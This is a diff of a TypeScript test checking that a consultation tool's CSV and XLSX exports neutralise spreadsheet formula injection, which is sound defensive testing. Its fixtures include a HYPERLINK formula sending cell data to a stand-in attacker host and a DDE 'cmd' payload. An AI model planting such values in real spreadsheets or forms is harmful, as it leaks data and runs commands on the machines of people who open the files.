@@ -1,5 +1,7 @@
 import { expect, it } from "vitest";
 import { and, eq } from "drizzle-orm";
+import { parse } from "csv-parse/sync";
+import { strFromU8, unzipSync } from "fflate";
 import { auditLog, consultationAnswers, providers, users } from "@/db/schema";
 import { listResponsesForOfficer, listShareableResponses } from "@/db/queries/consultations";
 import type { Actor } from "@/lib/auth/actor";
@@ -263,5 +265,38 @@ describeEachDatabase("consultation responses", (getDb) => {
     await expect(exportResponses(ctx, "99999999-9999-4999-8999-999999999999", "csv", {})).rejects.toBeInstanceOf(
       NotFoundError,
     );
+  });
+
+  it("exports a provider's formula answers as text in CSV and XLSX", async () => {
+    const s = await setup("-r6");
+    const formula = '=HYPERLINK("https://aanval.example/?d="&A2,"Bekijk onze offerte")';
+    await saveResponse(
+      { db: s.db, actor: s.a1, origin: "test" },
+      {
+        consultationId: s.id,
+        baseVersion: 0,
+        intent: "submit",
+        values: { [`answer_${s.q1}`]: formula, [`answer_${s.q2}`]: "@SUM(1+1)*cmd|' /C calc'!A0" },
+      },
+    );
+    const ctx = { db: s.db, actor: s.officer, origin: "test" };
+    const starts = /^[\s]*[=+\-@＝＋－＠]/;
+
+    const csv = await exportResponses(ctx, s.id, "csv", {});
+    const rows = parse(new TextDecoder().decode(csv.content), { delimiter: ";", bom: true });
+    expect(rows.flat()).toContain(`'${formula}`);
+    expect(rows.flat()).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
+    for (const cell of rows.flat()) expect(cell).not.toMatch(starts);
+
+    const xlsx = unzipSync((await exportResponses(ctx, s.id, "xlsx", {})).content);
+    expect(strFromU8(xlsx["xl/worksheets/sheet1.xml"]!)).not.toMatch(/<f[ >]/);
+    const strings = [...strFromU8(xlsx["xl/sharedStrings.xml"]!).matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) =>
+      m[1]!
+        .replace(/&amp;/g, "&")
+        .replace(/&quot;/g, '"')
+        .replace(/&apos;/g, "'"),
+    );
+    expect(strings).toContain(`'${formula}`);
+    for (const cell of strings) expect(cell).not.toMatch(starts);
   });
 });
